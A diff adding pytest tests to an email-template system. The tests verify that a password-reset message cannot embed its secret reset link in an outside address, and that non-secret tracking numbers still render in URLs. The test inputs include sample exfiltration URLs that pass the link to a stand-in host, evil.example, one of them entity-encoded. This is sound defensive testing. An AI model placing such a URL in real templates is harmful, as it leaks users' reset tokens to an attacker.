@@ -60,3 +60,25 @@ def test_an_unknown_placeholder_is_refused_by_name():
     message = ServiceMessage(event="welcome", subject="{order.number}", heading="x", body="<p>{user.password}</p>")
     with pytest.raises(ValidationError, match=r"\{order\.number\}, \{user\.password\}"):
         message.clean()
+
+
+@pytest.mark.parametrize("address", ["https://evil.example/?t={link}", "https://evil.example/?t=&#123;link&#125;"])
+def test_no_words_carry_the_readers_secret_to_another_address(address):
+    # 3.1: a marketer's words in the mail for a forgotten password took its link along to whom they liked
+    body = f'<p><a href="{address}">Set a new password</a> <a href="{{link}}">or here</a></p>'
+    with pytest.raises(ValidationError, match="part of another address"):
+        published("password_reset", body=body)
+    ServiceMessage.objects.filter(event="password_reset").update(body=body, live=True)  # as published before the check
+
+    html = render(event="password_reset", context={"link": "https://shop.example.com/SECRET"}).html
+
+    assert "evil.example" not in html
+    assert 'href="https://shop.example.com/SECRET"' in html
+
+
+def test_what_is_no_secret_may_stand_in_an_address():
+    tracking = "https://carrier.example/?number={shipment.tracking_number}"
+    message = published("order_shipped", body=f'<p><a href="{tracking}">Where is it?</a></p>')
+    message.full_clean()
+    context = {"shipment": {"tracking_number": "XY1"}}
+    assert "https://carrier.example/?number=XY1" in render(event="order_shipped", context=context).html
